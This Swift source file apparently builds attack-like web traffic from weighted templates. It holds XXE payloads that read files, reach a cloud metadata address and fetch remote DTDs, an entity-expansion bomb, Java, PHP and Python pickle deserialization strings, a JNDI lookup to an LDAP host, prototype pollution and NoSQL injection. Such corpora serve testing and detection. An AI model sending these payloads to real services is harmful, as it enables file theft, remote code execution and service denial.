/// XML with entities, and objects that do something when they are read back.
enum SerializedPayloads {
    static let payloads = Template.list(
        "file:///{file}", "http://{host}/x.dtd",
        "php://filter/read=convert.base64-encode/resource={file}",
        "http://169.254.169.254/latest/", "expect://{command}", "file:///c:/{file}")

    static let shapes = [
        RequestShape(
            "POST", "/api/v1/import",
            xml: #"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{payload}">]><r>&x;</r>"#,
            weight: 4),
        RequestShape(
            "POST", "/soap/orders",
            xml:
                #"<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY % p SYSTEM "{payload}">%p;]>"#
                + "<foo>{number}</foo>",
            weight: 3),
        RequestShape(
            "POST", "/api/v1/import",
            xml:
                #"<!DOCTYPE z [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">"#
                + #"<!ENTITY c "&b;&b;&b;">]><z>&c;</z>"#
        ),
        RequestShape(
            "POST", "/upload/svg",
            xml:
                #"<svg xmlns:xi="http://www.w3.org/2001/XInclude">"#
                + #"<xi:include parse="text" href="{payload}"/></svg>"#
        ),
        RequestShape(
            "POST", "/account/restore", form: "state=rO0ABXNyABFqYXZhLnV0aWwu{token}", weight: 3),
        RequestShape(
            "POST", "/account/restore",
            form: "state=O:8:\"Exploit{digit}\":1:{s:4:\"file\";s:{small}:\"{payload}\";}",
            weight: 2),
        RequestShape(
            "GET", "/cart", query: "saved=gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU{token}",
            weight: 2),
        RequestShape(
            "POST", "/api/v1/cart",
            json:
                #"{"@type":"com.sun.rowset.JdbcRowSetImpl","#
                + #""dataSourceName":"ldap://{host}/{hash}"}"#,
            weight: 3),
        RequestShape(
            "POST", "/api/v1/account",
            json: #"{"__proto__":{"admin":true,"shell":"{command}"},"name":"{person}"}"#,
            weight: 2),
        RequestShape(
            "POST", "/api/v1/search", json: #"{"query":{"$gt":""},"$where":"sleep({marker})"}"#,
            weight: 2),
    ]
}
